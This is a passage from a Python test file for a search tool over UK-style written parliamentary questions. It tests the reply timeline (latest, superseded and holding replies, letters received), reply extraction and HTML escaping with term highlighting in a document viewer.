    }


def test_the_timeline_shows_the_reply_that_answers_the_search_as_the_latest_line(
    tmp_path: Path, embedder: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On UK-style written questions: the latest line is the later Education answer (quoted, not its
    question), the earlier one is superseded by it, the Health question that only shares the query's
    words is left out though it is newer, and the letter received is listed apart, not as a line."""
    from tests.test_browser_precedents import QUERY, absence_store

    monkeypatch.setenv("YMATEB_STORE", str(absence_store(tmp_path / "absence-store", embedder, tmp_path)))
    at = search(start("precedents"), QUERY)
    found = at.session_state["prec_found"]
    assert "UKWQ-T3" in {p.doc_id for p in found.passages}, "the search finds the lexically close question"
    assert found.on_point == {"UKWQ-T1", "UKWQ-T2", "LETTER-T4"}
    lines, letters = (d.value for d in at.dataframe if "said" in d.value.columns)
    by_ref = dict(zip(lines["ref"], lines["line"]))
    assert by_ref == {"52002": "latest line", "13001": "superseded by 52002 (1 March 2025)"}
    latest = next(r for r in lines.to_dict("records") if r["ref"] == "52002")
    assert latest["said"].startswith("Working Together to Improve School Attendance") and "To ask" not in latest["said"]
    assert latest["rank"] >= 1 and "relevance" not in lines.columns
    shown = markdown(at)
    assert "**Latest line** (1 March 2025, 52002): Working Together" in shown
    assert list(letters["ref"]) == ["CO-4"] and list(letters["line"]) == ["letter received"]
    assert "**Letters received**" in shown
    left_out = len({p.doc_id for p in found.passages} - found.on_point)
    assert any(f"{left_out} result(s) left out" in c.value for c in at.caption)


def test_the_timeline_keeps_the_documents_on_point_quotes_replies_and_names_holding_replies() -> None:
    question = "To ask the Minister about teachers? "
    wq = {"kind": "written_question", "answer_start": len(question)}
    asked = Passage("q", "q:0", question, 0, len(question), 0.9, {**wq, "date": "2024-03-01", "ref": "WQ2"})
    holding = Passage(
        "h", "h:0", "I will write to the hon. Member as soon as possible.", 0, 52, 0.8, {"kind": "written_question",
        "date": "2024-05-01", "ref": "WQ3"}
    )  # fmt: skip
    off = passage("x", "an unrelated reply", 0.95, "2024-06-01")
    rows = U.timeline_rows(
        [off, asked, holding], on_point={"q", "h"}, answers={"q": "We are recruiting teachers.\n\nMore  soon."}
    )
    assert [(r["ref"], r["rank"], r["line"]) for r in rows] == [("WQ2", 2, "latest line"), ("WQ3", 3, "holding reply")]
    assert rows[0]["said"] == "We are recruiting teachers. More soon."  # the reply, from the whole document


def test_said_is_the_reply_of_the_first_chunk_that_reaches_it() -> None:
    from rag.drafting.lines import said

    meta = {"answer_start": 30}
    question = Passage("d", "d:0", "To ask the Minister, what now?", 0, 30, 0.9, meta)
    reply = Passage("d", "d:1", "ter, what now? We act today.", 16, 44, 0.5, meta)
    assert said([question]) == "" and said([question, reply]) == "We act today."


def test_the_document_viewer_marks_passages_and_query_words_escaped() -> None:
    from ui.reading import document_html

    text = "Dear <b>Jo</b>,\nThe review of services starts. Services improve. Yours"
    at, end = text.index("The"), text.index(" Yours")
    out = document_html(text, [(at, at + 20), (at + 10, end), (len(text), len(text) + 9)], "review services")
    assert out.startswith("Dear &#60;b&#62;Jo&#60;/b&#62;,<br>")
    assert out.count('<mark class="ym-cited">') == 1  # overlapping passages joined, the one past the end dropped
    assert '<mark class="ym-term">review</mark>' in out and out.count('class="ym-term"') == 3
    assert out.endswith(".</mark> Yours")
